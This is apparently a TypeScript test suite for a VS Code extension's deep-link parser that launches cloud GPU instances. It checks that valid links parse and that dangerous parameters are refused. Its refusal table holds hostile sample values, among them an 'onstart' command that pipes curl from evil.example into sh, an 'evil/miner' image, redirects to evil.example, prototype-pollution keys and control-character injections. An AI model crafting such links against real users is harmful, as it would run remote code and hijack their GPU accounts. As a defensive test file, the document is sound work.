// Links from anywhere: what they may say, and that everything else is refused by name, in one sentence.
import assert from "node:assert/strict";
import { describe, test } from "node:test";
import { buildLaunchLink, readLink, withLinkedSearch } from "../../../../src/domain/agent/link.ts";
import { AppError } from "../../../../src/domain/base/error.ts";
import { TemplateHash } from "../../../../src/domain/base/id.ts";
import { anySearch } from "../../../../src/domain/offer/offer-search.ts";

const HASH = "4e17788f74f075dd9aab7d0d4427968f";

/** As the editor hands it over: it decodes each part once. */
function open(address: string) {
  const [, path = "", query = "", fragment = ""] = /^[^?#]*?(\/[^?#]*)?(?:\?([^#]*))?(?:#(.*))?$/s.exec(address) ?? [];
  return readLink({ path, query, fragment });
}

function refusal(address: string): string {
  let said = "";
  assert.throws(
    () => open(address),
    (error) => {
      assert.ok(error instanceof AppError && error.kind === "rejected", String(error));
      said = error.message;
      return true;
    },
  );
  return said;
}

describe("a link", () => {
  test("to a launch fills in its search", () => {
    assert.deepEqual(open(`/launch?template=${HASH}&gpu=RTX_4090&gpus=2&max=0.6&disk=40&vram=24&type=bid`), {
      kind: "launch",
      template: HASH,
      search: {
        filters: {
          gpu_name: { eq: "RTX 4090" },
          num_gpus: { eq: 2 },
          gpu_ram: { gte: 22_659 },
          dph_total: { lte: 0.6 },
        },
        type: "bid",
        diskGb: 40,
      },
    });
  });

  test("to the offers fills in their filters", () => {
    const link = open("/explore?country=DE&reliability=99");
    assert.ok(link.kind === "explore");
    assert.deepEqual(link.search.filters, { reliability: { gte: 0.99 }, geolocation: { eq: "DE" } });
    assert.deepEqual(withLinkedSearch(anySearch, link.search), {
      ...anySearch,
      filters: { verified: { eq: true }, ...link.search.filters },
    });
  });

  test("to the offers needs no filter", () => {
    assert.deepEqual(open("/explore"), {
      kind: "explore",
      search: { filters: {}, type: undefined, diskGb: undefined },
    });
  });

  test("to an instance is its ID", () => {
    assert.deepEqual(open("/instance/31000001"), { kind: "instance", id: 31000001 });
  });
});

describe("what is refused by its name:", () => {
  const launch = `/launch?template=${HASH}`;
  for (const [name, address] of [
    ["api_key", `${launch}&api_key=abc`],
    ["key", `${launch}&key=abc`],
    ["base", `${launch}&base=https://evil.example`],
    ["address", `${launch}&address=https://evil.example`],
    ["env", `${launch}&env=-e%20A=1`],
    ["onstart", `${launch}&onstart=curl%20evil.example|sh`],
    ["image", `${launch}&image=evil/miner`],
    ["confirmed", `${launch}&confirmed=true`],
    ["Max", `${launch}&Max=1`],
    ["__proto__", `${launch}&__proto__=1`],
    ["constructor", "/explore?constructor=1"],
    ["toString", "/explore?toString=1"],
    ["template", `/explore?template=${HASH}`],
    ["gpu", "/instance/31000001?gpu=x"],
    ["max[]", `${launch}&max[]=1`],
    [" max", `${launch}&%20max=1`],
  ] as const)
    test(`the parameter ${name}`, () => {
      const said = refusal(address);
      assert.match(said, /doesn't know its parameter/);
      assert.ok(said.includes(name.trim()), said);
    });

  for (const name of ["template", "gpu", "max", "disk"])
    test(`${name} given twice`, () => {
      const said = refusal(`/launch?template=${HASH}&gpu=A&max=1&disk=9&${name}=${name === "template" ? HASH : "9"}`);
      assert.ok(said.includes(`the parameter “${name}” twice`), said);
    });

  for (const [name, value] of [
    ["template", ""],
    ["template", "%00"],
    ["template", "a%00b"],
    ["template", "a\u202eb"],
    ["template", "a%0Ab"],
    ["template", "x".repeat(257)],
    ["gpu", "RTX\u00074090"],
    ["gpu", "RTX\u200b4090"],
    ["gpu", '="RTX 4090"'],
    ["max", "0"],
    ["max", "-1"],
    ["max", "0,35"],
    ["max", "1e9"],
    ["max", "cheap"],
    ["max", "NaN"],
    ["max", "Infinity"],
    ["max", "9".repeat(400)],
    ["gpus", "=5"],
    ["vram", "a lot"],
    ["reliability", "200"],
    ["country", "Germany;"],
    ["disk", "1"],
    ["disk", "9".repeat(400)],
    ["disk", "0x20"],
    ["type", "reserved"],
    ["type", "__proto__"],
  ] as const)
    test(`${name} with ${JSON.stringify(value.slice(0, 20))}`, () => {
      const rest = name === "template" ? "" : `template=${HASH}&`;
      const said = refusal(`/launch?${rest}${name}=${value}`);
      assert.ok(said.includes(`parameter “${name}”`), said);
      assert.doesNotMatch(said, /[\p{Cc}\p{Cf}]/u);
      assert.ok(said.length < 300, said);
    });
});

describe("what is refused:", () => {
  for (const [what, address, says] of [
    ["64 KB", `/launch?template=${"a".repeat(65_536)}`, /2 KB/],
    ["64 KB of parameters", `/explore?${"gpu=A&".repeat(11_000)}`, /2 KB/],
    ["a path of 64 KB", `/${"a".repeat(65_536)}`, /2 KB/],
    ["no path", "", /nothing at/],
    ["another path", "/destroy/31000001", /nothing at “\/destroy\/31000001”/],
    ["a path's case", "/Launch?template=a", /nothing at/],
    ["a path's end", "/launch/?template=a", /nothing at/],
    ["a path within", "/explore/../launch?template=a", /nothing at/],
    ["a path with bidi", "/\u202elaunch", /nothing at “\/launch”/],
    ["a fragment", `/launch?template=${HASH}#key=1`, /#/],
    ["no template", "/launch?gpu=A", /which template/],
    ["no instance", "/instance/", /isn't an instance's ID/],
    ["an instance of text", "/instance/all", /“all” isn't an instance's ID/],
    ["an instance and more", "/instance/31000001/destroy", /isn't an instance's ID/],
    ["an instance beyond numbers", "/instance/99999999999999999999", /isn't an instance's ID/],
    ["an instance below numbers", "/instance/-1", /isn't an instance's ID/],
  ] as const)
    test(what, () => assert.match(refusal(address), says));
});

test("a link in a link is no more than a hash that no template has", () => {
  const nested = `vscode://cloud-gpu.cloud-gpu/launch?template=${HASH}`;
  const link = open(`/launch?${new URLSearchParams({ template: nested })}`);
  assert.ok(link.kind === "launch" && link.template === nested);
  assert.match(refusal(`/launch?template=vscode://x/launch?template=b&max=1&template=c`), /“template” twice/);
});

test("a link that is copied leads to the same template, whatever its hash is", () => {
  for (const hash of [HASH, "a b", "a&max=9", "50%", "a+b", "100%25", "ü/?#", "=x"].map((one) =>
    TemplateHash.parse(one),
  )) {
    const {
      pathname,
      search,
      hash: fragment,
      protocol,
    } = new URL(buildLaunchLink("vscodium", "cloud-gpu.cloud-gpu", hash));
    assert.equal(protocol, "vscodium:");
    const parts = { path: pathname, query: decodeURIComponent(search.slice(1)), fragment };
    assert.deepEqual(readLink(parts), {
      kind: "launch",
      template: hash,
      search: { filters: {}, type: undefined, diskGb: undefined },
    });
  }
  assert.equal(
    buildLaunchLink("vscode", "cloud-gpu.cloud-gpu", TemplateHash.parse(HASH)),
    `vscode://cloud-gpu.cloud-gpu/launch?template=${HASH}`,
  );
});
